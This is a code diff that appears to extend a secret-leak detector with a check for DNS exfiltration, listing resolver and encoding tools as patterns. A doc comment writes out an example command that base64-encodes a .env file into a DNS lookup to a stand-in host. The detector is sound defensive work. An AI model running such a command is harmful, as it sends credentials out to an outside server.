@@ -59,6 +59,8 @@ export function giveawayEffects(invocations: readonly Invocation[], requests: re
   const made = filesMade(invocations);
   for (const invocation of invocations) {
     const program = invocation.program ?? '';
+    const asked = resolvers.test(program) ? inNames(invocation, invocations) : null;
+    if (asked) effects.push(effectOf(giveawayRules.secret, { target: asked.what, span: invocation.span }));
     const to = destinationOf(invocation, requests);
     if (to === null) continue;
     const found = interpreters.test(program)
@@ -71,6 +73,23 @@ export function giveawayEffects(invocations: readonly Invocation[], requests: re
     effects.push(effectOf(rule, { target: found.what, span: invocation.span }));
   }
   return effects;
+}
+
+/** Programs that ask the name's own server: what stands in the name reaches it. */
+const resolvers = /^(?:dig|nslookup|host|drill|kdig|resolvectl|getent)$/;
+const encoders = /^(?:base64|base32|xxd|od|hexdump|basenc)$/;
+
+/** `dig "$(base64 .env).x.example"`, and the same in a loop over what was encoded: secrets as names that are looked up. */
+function inNames({ args, span }: Invocation, all: readonly Invocation[]): Given | null {
+  if (!args.some((word) => word.kind === 'unknown')) return null;
+  for (const one of all) {
+    if (!encoders.test(one.program ?? '') || one.span[0] > span[1]) continue;
+    for (const source of upstream(one, all)) {
+      const given = readBy(source);
+      if (given) return given;
+    }
+  }
+  return null;
 }
 
 interface Given {
